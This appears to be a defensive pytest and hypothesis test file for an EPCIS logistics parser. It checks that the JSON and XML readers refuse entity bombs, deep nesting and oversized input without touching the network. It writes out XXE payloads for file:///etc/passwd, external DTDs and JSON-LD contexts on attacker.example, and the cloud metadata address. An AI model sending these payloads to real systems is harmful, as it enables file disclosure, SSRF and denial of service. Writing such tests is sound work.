"""What an attacker would send: entity bombs, outward references, endless nesting, and plain rubbish. Nothing is fetched,
nothing crashes, and nothing grows beyond what was sent."""

from __future__ import annotations

import json
import random
import socket
import tracemalloc
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.logistics.epcis import read_json, read_xml, safe_xml
from services.logistics.epcis.contexts import STANDARD
from services.logistics.epcis.event_hash import hash_event
from services.logistics.epcis.exceptions import refuse_unreadable
from services.logistics.epcis.findings import NotReadable, TooLarge
from services.logistics.epcis.limits import LONGEST_NAMESPACE, MOST_EVENTS, MOST_PREFIXES
from services.logistics.epcis.prefixes import Prefixes
from services.logistics.epcis.preparing import check_storable, prepare_event
from services.logistics.epcis.translate import translate
from services.logistics.epcis.write_json import write_document
from services.logistics.epcis.write_xml import write_document as write_xml
from tests.conformance.epcis.events import events
from tests.conformance.epcis.files import find_wrong

MEMORY = 60 << 20
EPCS = "<epcList><epc>urn:x:1</epc></epcList>"
EVENT = (
    "<ObjectEvent><eventTime>2026-01-01T00:00:00Z</eventTime><eventTimeZoneOffset>+00:00</eventTimeZoneOffset>"
    "<epcList><epc>urn:x:1</epc></epcList><action>OBSERVE</action>{}</ObjectEvent>"
)
XML = (
    '<?xml version="1.0"?>{}<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0" '
    'creationDate="2026-01-01T00:00:00Z"><EPCISBody><EventList>'
    + EVENT
    + "</EventList></EPCISBody></epcis:EPCISDocument>"
)
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
DOCTYPES = {
    "billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>',
    "quadratic blowup": f'<!DOCTYPE x [<!ENTITY l11 "{"a" * 100_000}">]>',
    "external entity, file": '<!DOCTYPE x [<!ENTITY l11 SYSTEM "file:///etc/passwd">]>',
    "external entity, http": '<!DOCTYPE x [<!ENTITY l11 SYSTEM "http://attacker.example/x">]>',
    "parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
    "external subset": '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
}


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*arguments: object, **options: object) -> None:
        raise AssertionError(f"the network was asked for: {arguments}")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)


def refused(reader: Any, body: bytes) -> NotReadable:
    tracemalloc.start()
    try:
        with pytest.raises(NotReadable) as caught:
            reader.read_document(body)
        assert tracemalloc.get_traced_memory()[1] < MEMORY + 20 * len(body)
    finally:
        tracemalloc.stop()
    return caught.value


@pytest.mark.parametrize("name", DOCTYPES)
def test_document_types_are_refused(name: str) -> None:
    body = XML.format(DOCTYPES[name], "<a xmlns='urn:a'>&l11;</a>" if "subset" not in name else "")
    assert refused(read_xml, body.encode()).findings[0].rule == "doctype"


def test_outward_hints_in_xml_are_not_followed() -> None:
    hints = '<?xml-stylesheet href="http://attacker.example/x.xsl"?>'
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://attacker.example/x"/>'
    (event,) = read_xml.read_document(XML.format(hints, include).encode()).events
    assert event.fields["{http://www.w3.org/2001/XInclude}include"] == {"@href": "http://attacker.example/x"}


@pytest.mark.parametrize("depth", [70, 5_000])
def test_deep_nesting_is_refused(depth: int) -> None:
    body = XML.format("", "<a xmlns='urn:a'>" + "<b>" * depth + "</b>" * depth + "</a>")
    assert refused(read_xml, body.encode()).findings[0].rule == "limit"
    deep = '{"@context":["%s",{"a":"urn:a:"}],"type":"ObjectEvent","a:b":%s1%s}'
    refused(read_json, (deep % (STANDARD, "[" * depth, "]" * depth)).encode())
    refused(read_json, (deep % (STANDARD, '{"a:b":' * depth, "}" * depth)).encode())


def test_too_much_of_anything_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(safe_xml, "MOST_VALUES", 1_000)
    monkeypatch.setattr(read_json, "MOST_VALUES", 1_000)
    assert isinstance(refused(read_xml, XML.format("", "<a xmlns='urn:a'/>" * 2_000).encode()), TooLarge)
    assert isinstance(refused(read_xml, XML.format("", "<a xmlns='urn:a' b='1' c='2'/>" * 400).encode()), TooLarge)
    assert isinstance(refused(read_json, b"[" + b"{}," * 1_000 + b"1]"), TooLarge)
    attributes = " ".join(f'a{n}="1"' for n in range(safe_xml.MOST_ATTRIBUTES + 1))
    assert isinstance(refused(read_xml, XML.format("", f"<a xmlns='urn:a' {attributes}/>").encode()), TooLarge)
    monkeypatch.setattr(safe_xml, "MOST_BYTES", 1_000)
    monkeypatch.setattr(read_json, "MOST_BYTES", 1_000)
    assert refuse_unreadable(refused(read_json, b" " * 1_001)).status == 413
    assert refuse_unreadable(refused(read_xml, b" " * 1_001)).status == 413


@pytest.mark.parametrize(
    "context",
    [
        "http://attacker.example/context.jsonld",
        "http://169.254.169.254/latest/meta-data",
        "file:///etc/passwd",
        f"{STANDARD}/../../evil",
        f"{STANDARD}?x=http://attacker.example",
        "https://ref.gs1.org.attacker.example/standards/epcis/2.0.0/epcis-context.jsonld",
        {"@import": "http://attacker.example/context.jsonld"},
        {"@vocab": "http://attacker.example/"},
        {"@base": "http://attacker.example/"},
        {"a": {"@id": "urn:a:", "@context": "http://attacker.example/context.jsonld"}},
        {"a": None},
        {"a": ["urn:a:"]},
        {f"a{n}": f"urn:a{n}:" for n in range(MOST_PREFIXES + 1)},
        {"a": "urn:" + "a" * LONGEST_NAMESPACE},
        {"a" * (LONGEST_NAMESPACE + 1): "urn:a"},
        {"a": "urn:\uffff"},
        17,
    ],
)
def test_contexts_that_point_outward_or_are_none(context: Any) -> None:
    event = {"type": "ObjectEvent", "eventTime": "2026-01-01T00:00:00Z"}
    for told in ({"@context": context} | event, {"@context": [STANDARD, context]} | event):
        assert refused(read_json, json.dumps(told).encode()).findings[0].path.startswith("$.@context")
    inside = {
        "@context": STANDARD,
        "type": "EPCISDocument",
        "epcisBody": {"eventList": [{"@context": [context]} | event]},
    }
    assert "eventList[0].@context" in refused(read_json, json.dumps(inside).encode()).findings[0].path


def use_wholly(body: bytes, reader: Any) -> None:
    """Reads as a stranger's document is read; whatever is not refused can be hashed, indexed and written."""
    try:
        document = reader.read_document(body)
    except NotReadable as error:
        assert refuse_unreadable(error).members["errors"]
        return
    if find_wrong(document):
        return
    hashes = [hash_event(event) for event in document.events]
    for event in document.events:
        assert check_storable(event) or prepare_event(event).fields
        translate(event, "Always_EPC_URN", lambda digits: 6)
    assert [hash_event(one) for one in read_xml.read_document(write_xml(document)).events] == hashes
    again = read_json.read_document(json.dumps(write_document(document)).encode())
    assert [hash_event(one) for one in again.events] == hashes


RUBBISH = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(),
    st.text(max_size=8),
    st.sampled_from(
        ["urn:epc:id:sgtin:1.2.3", "https://id.gs1.org/01/1/21/2", "cbv:BizStep-x", "\x00", "{}", "@id", "a:b"]
    ),
    st.lists(st.integers(), max_size=2),
    st.dictionaries(
        st.sampled_from(["id", "type", "#text", "@a", "acme:b", "{x}y", "", "9 z"]), st.integers(), max_size=2
    ),
)


def places(value: Any) -> list[tuple[Any, Any]]:
    """Every place in a JSON value, as its holder and key."""
    pairs = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [place for key, one in pairs for place in [(value, key), *places(one)]]


def wrap(event: dict[str, Any], kind: str) -> dict[str, Any]:
    """The event alone, in a document with a header and master data, or in the results of a query."""
    element = {"id": "urn:x:1", "attributes": [{"id": "urn:a", "attribute": {"b": 1}}], "children": ["urn:x:2"]}
    vocabulary = {"type": "urn:epcglobal:epcis:vtype:Location", "vocabularyElementList": [element]}
    head = {"@context": event["@context"], "type": kind, "schemaVersion": "2.0", "creationDate": "2026-01-01T00:00:00Z"}
    header = {"sender": "urn:x:3", "epcisHeader": {"epcisMasterData": {"vocabularyList": [vocabulary]}}}
    match kind:
        case "EPCISDocument":
            return head | header | {"acme:ignoreFields": ["acme:a"], "epcisBody": {"eventList": [event]}}
        case "EPCISQueryDocument":
            results = {"queryName": "q", "subscriptionID": "s", "resultsBody": {"eventList": [event]}}
            return head | {"epcisBody": {"queryResults": results}}
    return event


KINDS = st.sampled_from(["", "EPCISDocument", "EPCISQueryDocument"])


@given(events(), KINDS, st.lists(RUBBISH, min_size=1, max_size=3), st.randoms(use_true_random=False))
@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_rubbish_anywhere(told: dict[str, Any], kind: str, rubbish: list[Any], chance: random.Random) -> None:
    told = json.loads(json.dumps(wrap(told, kind)))
    for one in rubbish:
        holder, key = chance.choice(places(told))
        if isinstance(holder, dict) and chance.random() < 0.3:
            holder[str(one)[:10]] = one
        else:
            holder[key] = one
    use_wholly(json.dumps(told).encode(), read_json)


@given(events(), st.binary(max_size=6), st.randoms(use_true_random=False))
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_rubbish_anywhere_in_the_text(told: dict[str, Any], rubbish: bytes, chance: random.Random) -> None:
    body = json.dumps(told).encode()
    for reader, text in ((read_json, body), (read_xml, write_xml(read_json.read_document(body)))):
        at = chance.randrange(len(text))
        use_wholly(text[:at] + rubbish + text[at + chance.randrange(8) :], reader)


@given(st.binary(max_size=200))
@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_bytes(body: bytes) -> None:
    use_wholly(body, read_json)
    use_wholly(body, read_xml)


def test_prefixes_do_not_multiply_what_is_sent() -> None:
    """A prefix stands for its namespace wherever it is written, and holds for every event: there is an end to both."""
    many = "".join(f' xmlns:a{n}="urn:a:{n}"' for n in range(MOST_PREFIXES + 1))
    same = "".join(f' xmlns:a{n}="urn:a"' for n in range(MOST_PREFIXES + 1))
    for declared in (
        many,
        same,
        ' xmlns:a="urn:' + "a" * LONGEST_NAMESPACE + '"',
        f' xmlns:{"a" * (LONGEST_NAMESPACE + 1)}="urn:a"',
    ):
        for body in (
            XML.format("", f"<b xmlns='urn:b'{declared}/>"),
            XML.replace(" schema", f"{declared} schema").format("", ""),
        ):
            assert refused(read_xml, body.encode()).findings[0].rule == "limit"
    each = "".join(f"<a xmlns='urn:{n}'/>" for n in range(MOST_PREFIXES + 1))
    assert refused(read_xml, XML.format("", each).encode()).findings[0].rule == "limit"
    again = "".join(f"<q{n}:a xmlns:q{n}='urn:a'/>" for n in range(MOST_PREFIXES + 1))
    use_wholly(XML.format("", again).encode(), read_xml)
    assert not find_wrong(read_xml.read_document(XML.format("", again).encode()))


def test_events_are_counted_before_they_are_read() -> None:
    xml = XML.format("", "").replace("</EventList>", "<ObjectEvent/>" * MOST_EVENTS + "</EventList>")
    told = {"@context": STANDARD, "type": "EPCISDocument", "epcisBody": {"eventList": [{}] * (MOST_EVENTS + 1)}}
    assert isinstance(refused(read_xml, xml.encode()), TooLarge)
    assert isinstance(refused(read_json, json.dumps(told).encode()), TooLarge)


def test_the_prefixes_of_many_namespaces_are_found_without_trying_each() -> None:
    written = Prefixes([], [])
    assert len({written.write(f"{{urn:{n}}}a") for n in range(50_000)}) == 50_000


@pytest.mark.parametrize(
    "inner", [{"a:x": 1, "b:x": 2}, {"a:in": {"a:x": 1, "b:x": 2}}, {"@id": "urn:x:1", "id": "urn:x:2"}]
)
def test_what_is_said_twice_under_two_names_is_refused(inner: dict[str, Any]) -> None:
    told = {"@context": [STANDARD, {"a": "urn:a:", "b": "urn:a:"}], "type": "ObjectEvent"} | inner
    assert refused(read_json, json.dumps(told).encode()).findings[0].rule == "twice"


def test_what_is_no_item_of_a_list_is_not_taken_for_one() -> None:
    for wrong in (
        "<epcList><tag>urn:x:2</tag></epcList>",
        "<quantityList><item><epcClass>urn:x:1</epcClass></item></quantityList>",
    ):
        document = read_xml.read_document(XML.replace(EPCS, wrong).format("", "").encode())
        assert find_wrong(document)
    document = read_xml.read_document(XML.replace("OBSERVE", "OBSERVE<more/>").format("", "").encode())
    assert find_wrong(document)


def test_names_that_a_document_leaves_unhashed_are_names() -> None:
    ignored = "<x:ignoreFields xmlns:x='urn:x'><bizStep/><x:a/></x:ignoreFields>"
    body = XML.format("", "<x:a xmlns:x='urn:x' xml:lang='en'>1</x:a>").replace("<EPCISBody>", f"{ignored}<EPCISBody>")
    document = read_xml.read_document(body.encode())
    assert document.events[0].unhashed == {"{urn:x}a"}
    use_wholly(body.encode(), read_xml)
    again = read_xml.read_document(write_xml(document)).events[0]
    assert again.fields == document.events[0].fields
    assert again.fields["{urn:x}a"] == {"@{http://www.w3.org/XML/1998/namespace}lang": "en", "#text": "1"}


def test_long_numbers_are_hashed_whole() -> None:
    told = {"@context": [STANDARD, {"a": "urn:a:"}], "type": "ObjectEvent", "eventTime": "2026-01-01T00:00:00Z"}
    told |= {"eventTimeZoneOffset": "+00:00", "action": "OBSERVE", "epcList": ["urn:x:1"]}
    hashes = set()
    for last in range(3):
        body = json.dumps(told | {"a:n": 10**600 + last}).encode()
        use_wholly(body, read_json)
        hashes.add(hash_event(read_json.read_document(body).events[0]))
    assert len(hashes) == 3
    refused(read_json, json.dumps(told).encode()[:-1] + b', "a:n": ' + b"1" * 5_000 + b"}")
